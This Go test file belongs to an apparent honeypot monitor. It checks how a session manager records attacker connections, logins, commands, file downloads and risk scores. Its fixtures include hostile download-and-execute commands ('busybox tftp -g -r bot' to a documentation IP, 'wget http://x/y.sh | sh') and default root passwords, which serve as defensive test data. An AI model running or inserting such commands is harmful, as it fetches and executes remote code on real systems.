package session

import (
	"context"
	"io"
	"log/slog"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/potwatch/potwatch/internal/bus"
	"github.com/potwatch/potwatch/internal/model"
	"github.com/potwatch/potwatch/internal/risk"
	"github.com/potwatch/potwatch/internal/store"
)

func newTestManager(t *testing.T) (*Manager, *store.Store) {
	t.Helper()
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
	st := store.New(1000, 100, logger)
	eventBus := bus.New(16, nil, logger)
	m := New(st, risk.NewScorer(nil), eventBus, nil, DefaultTimeout, DefaultSweepInterval, logger)
	return m, st
}

func connectEntry(session string, ts time.Time) *model.LogEntry {
	return &model.LogEntry{
		ID:        "id-" + session,
		Timestamp: ts,
		EventType: model.EventConnect,
		Session:   session,
		SrcIP:     "203.0.113.7",
		SrcPort:   54321,
		DstIP:     "10.0.0.5",
		DstPort:   2222,
		Fields:    map[string]any{"version": "SSH-2.0-libssh"},
	}
}

func TestProcessConnectCreatesSession(t *testing.T) {
	m, st := newTestManager(t)
	start := time.Date(2026, 8, 21, 10, 0, 0, 0, time.UTC)

	m.Process(connectEntry("s1", start))

	s, ok := st.Session("s1")
	require.True(t, ok)
	assert.Equal(t, start, s.StartTime)
	assert.Equal(t, "203.0.113.7", s.SrcIP)
	assert.Equal(t, uint16(54321), s.SrcPort)
	assert.Equal(t, "SSH", s.Protocol)
	assert.Equal(t, "SSH-2.0-libssh", s.ClientVersion)
	assert.True(t, s.Active())
}

func TestProcessFirstEntryWithoutConnect(t *testing.T) {
	m, st := newTestManager(t)

	// A command arriving for an unseen session still creates a record,
	// with placeholder addressing.
	m.Process(&model.LogEntry{
		ID:        "e1",
		Timestamp: time.Now(),
		EventType: model.EventCommand,
		Session:   "s1",
		Command:   "whoami",
	})

	s, ok := st.Session("s1")
	require.True(t, ok)
	assert.Equal(t, "0.0.0.0", s.SrcIP)
	assert.Equal(t, "Unknown", s.Protocol)
	require.Len(t, s.Commands, 1)
	assert.Equal(t, "whoami", s.Commands[0].Command)
}

func TestPortlessConnectKeepsAddressingAndStart(t *testing.T) {
	m, st := newTestManager(t)
	start := time.Date(2026, 8, 21, 10, 0, 0, 0, time.UTC)
	m.Process(connectEntry("s1", start))

	// A version/kex event also lands as a connect kind but carries no
	// ports; it must not disturb what the real connect established.
	m.Process(&model.LogEntry{
		ID:        "e-version",
		Timestamp: start.Add(5 * time.Second),
		EventType: model.EventConnect,
		Session:   "s1",
		SrcIP:     "203.0.113.7",
		Fields:    map[string]any{"version": "SSH-2.0-Go"},
	})

	s, ok := st.Session("s1")
	require.True(t, ok)
	assert.Equal(t, start, s.StartTime)
	assert.Equal(t, uint16(54321), s.SrcPort)
	assert.Equal(t, uint16(2222), s.DstPort)
	assert.Equal(t, "SSH", s.Protocol)
	assert.Equal(t, "SSH-2.0-Go", s.ClientVersion)
}

func TestEmptyCommandNotAppended(t *testing.T) {
	m, st := newTestManager(t)
	ts := time.Now()
	m.Process(connectEntry("s1", ts))

	// Success notifications can arrive with no input text.
	m.Process(&model.LogEntry{
		ID: "e1", Timestamp: ts, EventType: model.EventCommand,
		Session: "s1", Fields: map[string]any{"success": true},
	})

	s, _ := st.Session("s1")
	assert.Empty(t, s.Commands)
	assert.Zero(t, s.RiskScore)
}

func TestProcessIgnoresSessionlessEntries(t *testing.T) {
	m, st := newTestManager(t)
	m.Process(&model.LogEntry{ID: "e1", Timestamp: time.Now(), EventType: model.EventConnect})
	assert.Zero(t, st.SessionCount())
}

func TestStickyAuth(t *testing.T) {
	m, st := newTestManager(t)
	ts := time.Now()
	m.Process(connectEntry("s1", ts))

	m.Process(&model.LogEntry{
		ID: "e1", Timestamp: ts, EventType: model.EventLoginSuccess,
		Session: "s1", Username: "root", Password: "123456",
	})
	m.Process(&model.LogEntry{
		ID: "e2", Timestamp: ts.Add(time.Second), EventType: model.EventLoginFailed,
		Session: "s1", Username: "admin", Password: "admin",
	})

	s, _ := st.Session("s1")
	require.NotNil(t, s.User)
	assert.Equal(t, "root", s.User.Username)
	assert.True(t, s.User.LoginSuccess)
}

func TestFailureThenSuccessReplacesUser(t *testing.T) {
	m, st := newTestManager(t)
	ts := time.Now()
	m.Process(connectEntry("s1", ts))

	m.Process(&model.LogEntry{
		ID: "e1", Timestamp: ts, EventType: model.EventLoginFailed,
		Session: "s1", Username: "admin", Password: "admin",
	})
	m.Process(&model.LogEntry{
		ID: "e2", Timestamp: ts.Add(time.Second), EventType: model.EventLoginSuccess,
		Session: "s1", Username: "root", Password: "toor",
	})

	s, _ := st.Session("s1")
	require.NotNil(t, s.User)
	assert.Equal(t, "root", s.User.Username)
	assert.True(t, s.User.LoginSuccess)
}

func TestCommandsAppendInOrder(t *testing.T) {
	m, st := newTestManager(t)
	ts := time.Now()
	m.Process(connectEntry("s1", ts))

	m.Process(&model.LogEntry{
		ID: "e1", Timestamp: ts, EventType: model.EventCommand,
		Session: "s1", Command: "whoami", Fields: map[string]any{},
	})
	m.Process(&model.LogEntry{
		ID: "e2", Timestamp: ts.Add(time.Second), EventType: model.EventCommand,
		Session: "s1", Command: "uname -a",
		Fields: map[string]any{"success": false, "output": "command not found"},
	})

	s, _ := st.Session("s1")
	require.Len(t, s.Commands, 2)
	assert.Equal(t, "whoami", s.Commands[0].Command)
	assert.True(t, s.Commands[0].Success)
	assert.Equal(t, "uname -a", s.Commands[1].Command)
	assert.False(t, s.Commands[1].Success)
	assert.Equal(t, "command not found", s.Commands[1].Output)
}

func TestDisconnectFinalizesSession(t *testing.T) {
	m, st := newTestManager(t)
	start := time.Date(2026, 8, 21, 10, 0, 0, 0, time.UTC)
	m.Process(connectEntry("s1", start))

	m.Process(&model.LogEntry{
		ID: "e1", Timestamp: start.Add(95 * time.Second), EventType: model.EventDisconnect,
		Session: "s1",
	})

	s, _ := st.Session("s1")
	assert.False(t, s.Active())
	assert.Equal(t, uint64(95), s.DurationSeconds)
}

func TestFileTransfersAppend(t *testing.T) {
	m, st := newTestManager(t)
	ts := time.Now()
	m.Process(connectEntry("s1", ts))

	m.Process(&model.LogEntry{
		ID: "e1", Timestamp: ts, EventType: model.EventFileDownload, Session: "s1",
		File: &model.FileTransfer{Filename: "bot.sh", Direction: model.DirectionDownload, Executable: true},
	})

	s, _ := st.Session("s1")
	require.Len(t, s.Files, 1)
	assert.Equal(t, "bot.sh", s.Files[0].Filename)
	assert.Greater(t, s.RiskScore, 0)
}

func TestKeyAuthRecordsFingerprint(t *testing.T) {
	m, st := newTestManager(t)
	ts := time.Now()
	m.Process(connectEntry("s1", ts))

	m.Process(&model.LogEntry{
		ID: "e1", Timestamp: ts, EventType: model.EventKeyAuth, Session: "s1",
		Username: "root",
		Fields:   map[string]any{"fingerprint": "SHA256:abcdef", "success": true},
	})

	s, _ := st.Session("s1")
	require.NotNil(t, s.User)
	assert.Equal(t, "SHA256:abcdef", s.User.KeyFingerprint)
	assert.True(t, s.User.LoginSuccess)
}

func TestTTYLogLastWriteWins(t *testing.T) {
	m, st := newTestManager(t)
	ts := time.Now()
	m.Process(connectEntry("s1", ts))

	m.Process(&model.LogEntry{
		ID: "e1", Timestamp: ts, EventType: model.EventCommand, Session: "s1",
		Command: "ls", Fields: map[string]any{"ttylog": "/var/lib/tty/1.log"},
	})
	m.Process(&model.LogEntry{
		ID: "e2", Timestamp: ts, EventType: model.EventDisconnect, Session: "s1",
		Fields: map[string]any{"ttylog": "/var/lib/tty/2.log", "shasum": "deadbeef"},
	})

	s, _ := st.Session("s1")
	assert.Equal(t, "/var/lib/tty/2.log", s.TTYLog)
	assert.Equal(t, "deadbeef", s.Shasum)
}

func TestRiskRecomputedOnEveryMutation(t *testing.T) {
	m, st := newTestManager(t)
	ts := time.Now()
	m.Process(connectEntry("s1", ts))

	m.Process(&model.LogEntry{
		ID: "e1", Timestamp: ts, EventType: model.EventLoginSuccess,
		Session: "s1", Username: "root", Password: "toor",
	})
	s, _ := st.Session("s1")
	first := s.RiskScore
	assert.Equal(t, 10, first)
	assert.False(t, s.Malicious)

	m.Process(&model.LogEntry{
		ID: "e2", Timestamp: ts, EventType: model.EventCommand, Session: "s1",
		Command: "busybox tftp -g -r bot 198.51.100.1", Fields: map[string]any{},
	})
	s, _ = st.Session("s1")
	assert.Greater(t, s.RiskScore, first)
	assert.True(t, s.Malicious)
}

func TestSweepTimeouts(t *testing.T) {
	m, st := newTestManager(t)
	now := time.Now().UTC()

	m.Process(connectEntry("old", now.Add(-45*time.Minute)))
	m.Process(connectEntry("fresh", now.Add(-5*time.Minute)))

	closed := m.SweepTimeouts(now)
	assert.Equal(t, 1, closed)

	old, _ := st.Session("old")
	assert.False(t, old.Active())
	assert.Equal(t, uint64(45*60), old.DurationSeconds)

	fresh, _ := st.Session("fresh")
	assert.True(t, fresh.Active())

	// A second sweep is a no-op.
	assert.Zero(t, m.SweepTimeouts(now))
}

func TestEntriesPublishedBeforeRunAreProcessed(t *testing.T) {
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
	st := store.New(100, 100, logger)
	eventBus := bus.New(16, nil, logger)
	m := New(st, risk.NewScorer(nil), eventBus, nil, DefaultTimeout, DefaultSweepInterval, logger)

	// The subscription is established at construction, so entries
	// published before Run starts sit in its buffer instead of dropping.
	eventBus.Publish(bus.Event{Kind: bus.KindLogEntry, LogEntry: connectEntry("s1", time.Now())})

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go m.Run(ctx)

	assert.Eventually(t, func() bool {
		_, ok := st.Session("s1")
		return ok
	}, 5*time.Second, 10*time.Millisecond)
}

func TestSameSequenceYieldsSameSession(t *testing.T) {
	entries := []*model.LogEntry{
		connectEntry("s1", time.Date(2026, 8, 21, 10, 0, 0, 0, time.UTC)),
		{
			ID: "e1", Timestamp: time.Date(2026, 8, 21, 10, 0, 5, 0, time.UTC),
			EventType: model.EventLoginSuccess, Session: "s1",
			Username: "root", Password: "toor",
		},
		{
			ID: "e2", Timestamp: time.Date(2026, 8, 21, 10, 0, 10, 0, time.UTC),
			EventType: model.EventCommand, Session: "s1",
			Command: "wget http://x/y.sh | sh", Fields: map[string]any{},
		},
		{
			ID: "e3", Timestamp: time.Date(2026, 8, 21, 10, 1, 0, 0, time.UTC),
			EventType: model.EventDisconnect, Session: "s1", Fields: map[string]any{},
		},
	}

	run := func() model.Session {
		m, st := newTestManager(t)
		for _, e := range entries {
			m.Process(e)
		}
		s, ok := st.Session("s1")
		require.True(t, ok)
		return s
	}

	assert.Equal(t, run(), run())
}

func TestSessionUpdatePublishedOnBus(t *testing.T) {
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
	st := store.New(100, 100, logger)
	eventBus := bus.New(16, nil, logger)
	m := New(st, risk.NewScorer(nil), eventBus, nil, DefaultTimeout, DefaultSweepInterval, logger)

	events, cancel := eventBus.Subscribe()
	defer cancel()

	m.Process(connectEntry("s1", time.Now()))

	select {
	case event := <-events:
		assert.Equal(t, bus.KindSessionUpdate, event.Kind)
		require.NotNil(t, event.Session)
		assert.Equal(t, "s1", event.Session.ID)
	default:
		t.Fatal("expected a session update on the bus")
	}
}
